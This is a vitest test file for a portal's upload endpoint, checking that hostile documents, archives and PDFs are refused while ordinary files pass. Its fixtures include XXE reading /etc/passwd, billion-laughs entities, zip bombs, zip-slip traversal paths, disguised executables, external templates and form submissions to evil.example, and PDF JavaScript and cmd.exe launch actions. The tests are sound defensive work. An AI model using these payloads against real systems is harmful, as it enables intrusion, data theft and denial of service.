import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { everything } from '../../platform/testing/test-extent.ts'
import { testRegion, type Region } from '../../app/testing/test-region.ts'
import { multipart } from '../../app/testing/test-values.ts'
import { zipOf, zipOfParts, type Entry } from '../../platform/package/test-zip.ts'
import {
  excel,
  packedObjects,
  pages,
  pdfOf,
  relationOf,
  streamOf,
  typesOf,
  word,
} from './test-hostile-files.ts'

let region: Region
beforeAll(
  async () => void (region = await testRegion('hostile uploads', undefined, { requestsPerMinute: 100_000 })),
)
afterAll(() => region.close())

let sent = 0
async function upload(name: string, content: Buffer) {
  // Uploads per minute are limited for each account: the tests take turns.
  const people = Object.values(region.people)
  const who = people[(sent += 1) % people.length] ?? region.people.school
  const { payload, headers } = multipart(name, 'application/octet-stream', content)
  const answer = await region.app.inject({
    method: 'POST',
    url: '/api/v1/upload/object',
    payload,
    headers: { ...headers, token: who.token },
  })
  return { status: answer.statusCode, ...(answer.json() as { msg: string; data: { mime: string } }) }
}

async function refused(name: string, content: Buffer, sentence = /[\u4e00-\u9fff]{4}/) {
  const answer = await upload(name, content)
  expect([answer.status, answer.msg], `${name}: ${answer.msg}`).toEqual([
    400,
    expect.stringMatching(sentence),
  ])
}

const template = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
const package2006 = 'http://schemas.openxmlformats.org/package/2006'
const settings = (text: string | Buffer) => ({ ...word, 'word/_rels/settings.xml.rels': text })
const wordTypes = (more: string) => ({
  ...word,
  '[Content_Types].xml': typesOf('word/document.xml', 'wordprocessingml.document.main+xml', more),
})
const bomb = Buffer.alloc(30 * 1024 * 1024)

describe('whoever wants a document to fetch or run something when it is opened, is refused', () => {
  it.each<[string, Readonly<Record<string, string | Buffer>>]>([
    [
      'a template under a prefixed name',
      settings(
        `<r:Relationships xmlns:r="${package2006}/relationships"><r:Relationship Id="r1" TargetMode="External" Type="${template}" Target="https://evil.example/t.dotm"/></r:Relationships>`,
      ),
    ],
    [
      'a template whose mode is spelt by letters’ numbers',
      settings(relationOf('attachedTemplate', 'TargetMode="&#69;xternal"')),
    ],
    [
      'a template behind an attribute with >',
      settings(relationOf('attachedTemplate', 'x="a>b" TargetMode="External"')),
    ],
    [
      'a template named by an entity',
      settings(
        `<!DOCTYPE Relationships [<!ENTITY m "External">]>${relationOf('attachedTemplate', 'TargetMode="&m;"')}`,
      ),
    ],
    ['a relation of a kind nobody knows', settings(relationOf('whatever', 'TargetMode="External"'))],
    [
      'a relation list in another encoding',
      settings(Buffer.from(`\ufeff${relationOf('attachedTemplate', 'TargetMode="External"')}`, 'utf16le')),
    ],
    [
      'a DTD that reads a file',
      {
        ...word,
        'word/document.xml':
          '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]><w>&f;</w>',
      },
    ],
    [
      'a billion laughs in a sheet',
      { ...excel, 'xl/sharedStrings.xml': '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>' },
    ],
    [
      'a DTD behind a long comment',
      { ...word, 'docProps/app.xml': `<!--${'x'.repeat(70_000)}--><!DOCTYPE a [<!ENTITY b "c">]><a/>` },
    ],
    [
      'macros declared under a prefix',
      {
        ...word,
        '[Content_Types].xml': `<t:Types xmlns:t="${package2006}/content-types"><t:Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><t:Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.&#118;baProject"/></t:Types>`,
        'word/a.dat': 'x',
      },
    ],
    [
      'a type with macros',
      {
        ...wordTypes(
          '<Override PartName="/word/b.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
        'word/b.xml': '<a/>',
      },
    ],
    [
      'a control reached by a relation only',
      {
        ...word,
        'word/_rels/document.xml.rels': relationOf('control', '', 'things/a.dat'),
        'word/things/a.dat': 'x',
      },
    ],
    [
      'a workbook with macros within a document',
      {
        ...word,
        'word/embeddings/Microsoft_Excel_Sheet1.xlsx': zipOfParts({ ...excel, 'xl/vbaProject.bin': 'x' }),
      },
    ],
    [
      'a program among the pictures',
      { ...word, 'word/media/image1.png': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) },
    ],
  ])('%s', (_, parts) => refused('文件.docx', zipOfParts(parts)))
})

describe('whoever wants to fill the memory or the disk of a reader, is refused', () => {
  it.each<[string, () => Buffer]>([
    ['sizes that lie: much in little', () => zipOf([{ name: 'a.txt', content: bomb, claims: 10 }])],
    [
      'much in little, truly said',
      () => zipOf(Array.from({ length: 8 }, (_, n) => ({ name: `${n}.txt`, content: bomb }))),
    ],
    [
      'a bomb within a zip within a zip',
      () =>
        zipOfParts({
          'b.zip': zipOfParts({
            'c.zip': zipOf(Array.from({ length: 8 }, (_, n) => ({ name: `${n}`, content: bomb }))),
          }),
        }),
    ],
    [
      'zips within zips without end',
      () =>
        Array.from({ length: 6 }).reduce<Buffer>(
          (inner) => zipOfParts({ 'a.zip': inner }),
          zipOfParts({ a: 'x' }),
        ),
    ],
    [
      'ten thousand entries',
      () => zipOf(Array.from({ length: 10_000 }, (_, n) => ({ name: `${n}`, content: '' }))),
    ],
    [
      'a packed object of a PDF that inflates without end',
      () =>
        pdfOf({
          1: '<< /Type /Catalog /Pages 2 0 R >>',
          ...pages,
          4: packedObjects({ 5: `(${'a'.repeat(80 * 1024 * 1024)})` }),
        }),
    ],
  ])('%s', async (_, made) => refused('材料.zip', made()))
})

describe('whoever wants a file to land elsewhere, or a program to arrive in a zip file, is refused', () => {
  const unicodePath = (path: string) => {
    const text = Buffer.from(path)
    const head = Buffer.alloc(9)
    head.writeUInt16LE(0x7075, 0)
    head.writeUInt16LE(5 + text.length, 2)
    head[4] = 1
    return Buffer.concat([head, text])
  }
  it.each<[string, Entry]>([
    ['a way up', { name: 'a/../../b.txt', content: 'x' }],
    ['a way up by the other slash', { name: '..\\b.txt', content: 'x' }],
    ['a drive', { name: 'C:/Windows/b.txt', content: 'x' }],
    ['a drive by the other slash', { name: 'c:\\b.txt', content: 'x' }],
    ['the root', { name: '/etc/cron.d/b', content: 'x' }],
    ['another machine', { name: '\\\\evil\\share\\b.txt', content: 'x' }],
    ['a link', { name: 'b.txt', content: '/etc/passwd', mode: 0o120777 }],
    ['a device', { name: 'b.txt', content: '', mode: 0o020666 }],
    ['a NUL in the name', { name: 'b.exe\0.txt', content: 'x' }],
    ['another name in front', { name: 'b.txt', localName: 'b.exe', content: 'x' }],
    ['another name in an extra field', { name: 'b.txt', content: 'x', extra: unicodePath('../../b.txt') }],
    ['a program', { name: '资料/安装.EXE', content: 'x' }],
    ['a disk image', { name: '资料.iso', content: 'x' }],
    [
      'a disk image under another ending',
      {
        name: '资料.jpg',
        content: Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001'), Buffer.alloc(4000)]),
      },
    ],
    ['a package of Windows', { name: 'a.msix', content: 'x' }],
    ['a program with a dot behind', { name: 'a.exe.', content: 'x' }],
    [
      'a program under another ending',
      { name: '照片.jpg', content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) },
    ],
    ['a program in a zip within', { name: 'b.zip', content: zipOfParts({ 'a.exe': 'x' }) }],
    [
      'an archive nobody can look into',
      { name: 'b.dat', content: Buffer.from('526172211a0701003392b5e50a01050600050101808000', 'hex') },
    ],
    [
      'a document with macros within',
      { name: '附件.docx', content: zipOfParts({ ...word, 'word/vbaProject.bin': 'x' }) },
    ],
    [
      'a PDF with a script within',
      {
        name: '附件.pdf',
        content: pdfOf({
          1: '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>',
          ...pages,
        }),
      },
    ],
    ['a password', { name: 'b.txt', content: 'x', flag: 0x801 }],
  ])('%s', (_, entry) => refused('材料.zip', zipOf([{ name: '说明.txt', content: '好' }, entry])))
})

describe('whoever wants a PDF to run or carry something, is refused', () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
  const root = '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>'
  const of = (hidden: string | Buffer) => pdfOf({ 1: root, ...pages, 4: hidden })
  it.each<[string, () => Buffer]>([
    ['a script', () => of(script)],
    ['a script whose name is spelt by numbers', () => of('<< /S /J#61vaScrip#74 /J#53 (1) >>')],
    ['a script in packed objects', () => of(packedObjects({ 5: script }))],
    ['a script in packed objects that do not say so', () => of(packedObjects({ 5: script }, ''))],
    [
      'a script in packed objects whose type is spelt by numbers',
      () => of(packedObjects({ 5: '<< /S /#4a#61vaScript >>' }, '/Type /Obj#53tm')),
    ],
    [
      'a name apart from its action',
      () => pdfOf({ 1: root, ...pages, 5: '<< /S 6 0 R >>', 6: '/JavaScript' }),
    ],
    ['a form that is sent somewhere', () => of('<< /S /SubmitForm /F (https://evil.example/x) >>')],
    [
      'an address that a page opens by itself',
      () =>
        pdfOf({
          1: root,
          2: pages[2],
          3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (https://evil.example) >> >> >>',
        }),
    ],
    [
      'actions of a page that stand elsewhere',
      () =>
        pdfOf({ 1: root, 2: pages[2], 3: '<< /Type /Page /Parent 2 0 R /AA 6 0 R >>', 6: '<< /O 7 0 R >>' }),
    ],
    [
      'a document on another machine',
      () => of('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
    ],
    [
      'a document on another machine, in its own object and in hex',
      () => of(packedObjects({ 5: '<< /Type /Filespec /UF <FEFF005C005C006500760069006C> >>' })),
    ],
    ['a link into the network of files', () => of('<< /S /URI /URI (file://evil/share) >>')],
    [
      'files carried along, of which none is there',
      () => pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 9 0 R >> >>', ...pages }),
    ],
    ['a program to start', () => of(packedObjects({ 5: '<< /S /Launch /F (cmd.exe) >>' }))],
    ['a file carried along', () => of(streamOf('/Type /Embedded#46ile', Buffer.from('MZ')))],
    ['a form with scripts', () => of(packedObjects({ 5: '<< /XFA [(a) 9 0 R] >>' }))],
    [
      'packed objects in the bytes of a stream',
      () =>
        of(
          streamOf(
            '',
            Buffer.concat([
              Buffer.from('5 0 obj\n'),
              packedObjects({ 5: script }),
              Buffer.from('\nendobj\n'),
            ]),
          ),
        ),
    ],
    [
      'packed objects behind a comment',
      () =>
        Buffer.concat([
          pdfOf({ 1: root, ...pages }),
          Buffer.from('5 %a\n0 % b\r obj '),
          packedObjects({ 6: script }),
          Buffer.from('\nendobj\n%%EOF'),
        ]),
    ],
    [
      'packed objects that nobody can read',
      () => of(streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('rubbish'))),
    ],
    [
      'packed objects behind a second wrapping',
      () =>
        of(
          streamOf('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('00>')),
        ),
    ],
    ['no end', () => Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\n')],
  ])('%s', (_, made) => refused('证书.pdf', made()))
})

describe('whoever sends what the portal does not take, hears what to do', () => {
  const heic = Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from('ftypheic\0\0\0\0mif1heic'),
    Buffer.alloc(200),
  ])
  it('HEIC of a phone', () => refused('照片.heic', heic, /另存（导出）为 JPG/))
  it('OFD of an office', () =>
    refused(
      '公文.ofd',
      zipOfParts({ 'OFD.xml': '<a/>', 'Doc_0/Document.xml': '<a/>' }),
      /转换（另存）为 PDF/,
    ))
  it('a document with the slash of Windows', () =>
    refused(
      'a.docx',
      zipOfParts(
        Object.fromEntries(Object.entries(word).map(([name, text]) => [name.replaceAll('/', '\\'), text])),
      ),
      /反斜杠/,
    ))
})

describe('what people really have', () => {
  it('is taken: documents of the Open XML SDK, lists of types that no part has, ordinary links of a PDF', async () => {
    const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
    const root =
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="/word/document.xml"/></Relationships>'
    const types = `<Types xmlns="${package2006}/content-types"><Default Extension="xml" ContentType="${main}"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`
    const sdk = zipOfParts({ ...word, '[Content_Types].xml': types, '_rels/.rels': root })
    expect(await upload('a.docx', sdk)).toMatchObject({
      msg: 'ok',
      data: { mime: expect.stringMatching(/wordprocessingml/) },
    })
    const linked = pdfOf({
      1: '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
      ...pages,
      4: '<< /S /URI /URI (https://example.com//a) >>',
      5: '<< /S /GoToR /F (next.pdf) /D [0 /Fit] >>',
      6: '<< /Font << /AA 7 0 R >> >>',
    })
    expect(await upload('a.pdf', linked)).toMatchObject({ msg: 'ok' })
  })

  it.each([
    ['notice.docx', /wordprocessingml/],
    ['charts.docx', /wordprocessingml/],
    ['hours.xlsx', /spreadsheetml/],
    ['summary.pptx', /presentationml/],
    ['charts.pptx', /presentationml/],
    ['notice.doc', /msword/],
    ['hours.xls', /ms-excel/],
    ['materials.zip', /zip/],
    ['locked.pdf', /pdf/],
    ['names.txt', /text\/plain/],
  ])('is taken: %s', async (name, mime) => {
    const answer = await upload(name, await readFile(join(import.meta.dirname, '../../../e2e/files', name)))
    expect(answer).toMatchObject({ msg: 'ok', data: { mime: expect.stringMatching(mime) } })
  })

  it('is taken: a PDF with packed objects, a zip with Chinese names of Windows and folders, zips and documents within', async () => {
    const pdf = pdfOf({ 4: packedObjects({ 1: '<< /Type /Catalog /Pages 2 0 R >>', ...pages }) })
    expect(await upload('证书.pdf', pdf)).toMatchObject({ msg: 'ok', data: { mime: 'application/pdf' } })
    const folder = Buffer.from('b2c4c1cf5c', 'hex') // 材料\ in GB18030
    const zip = zipOf([
      { name: Buffer.concat([folder, Buffer.from('b1ed2e747874', 'hex')]), content: '一', flag: 0 },
      { name: '空/', content: '', mode: 0o040755 },
      { name: '附件.docx', content: zipOfParts({ ...word, 'word/mail.html': '<p>一</p><p>二<br></p>' }) },
      { name: '更多.zip', content: zipOfParts({ 'a.txt': 'x', '证书.pdf': pdf }) },
    ])
    expect(await upload('材料.zip', zip)).toMatchObject({ msg: 'ok', data: { mime: 'application/zip' } })
  })

  it('is taken: text in UTF-16, whichever end comes first', async () => {
    const text = '\ufeff姓名,学时\r\n林疏影,72\r\n'.repeat(50)
    const little = Buffer.from(text, 'utf16le')
    for (const content of [little, Buffer.from(little).swap16()]) {
      expect(await upload('名单.csv', content)).toMatchObject({ msg: 'ok', data: { mime: 'text/plain' } })
    }
  })
})

it.runIf(everything)(
  'whoever wants everybody to wait while eight large files and one without end are looked into, does not get it',
  async () => {
    const address = await region.app.listen({ port: 0, host: '127.0.0.1' })
    const send = async (name: string, content: Buffer) => {
      const { payload, headers } = multipart(name, 'text/plain', content)
      const body = new Blob([Uint8Array.from(payload)])
      const answer = await fetch(`${address}/api/v1/upload/object`, {
        method: 'POST',
        body,
        headers: { ...headers, token: region.people.city.token },
      })
      const { msg } = (await answer.json()) as { msg: string }
      return msg
    }
    // Each of its objects ends with the file only: a reader goes through all of it for each.
    let judged = false
    const endless = send('a.pdf', Buffer.from(`%PDF-1.7\n${'1 0 obj(\n'.repeat(200_000)}%%EOF`)).finally(
      () => void (judged = true),
    )
    const large = Buffer.from('继续教育学时登记表，一行又一行。\n'.repeat(200_000))
    const texts = Promise.all(Array.from({ length: 8 }, () => send('a.txt', large)))
    let answered = 0
    for (; !judged; answered += 1) expect((await fetch(`${address}/health`)).status).toBe(200)
    expect(await endless).toMatch(/太复杂/)
    expect(await texts).toEqual(Array.from({ length: 8 }, () => 'ok'))
    // Judged beside the requests: in their midst the file without end would let one or two through.
    expect(answered).toBeGreaterThan(20)
  },
)
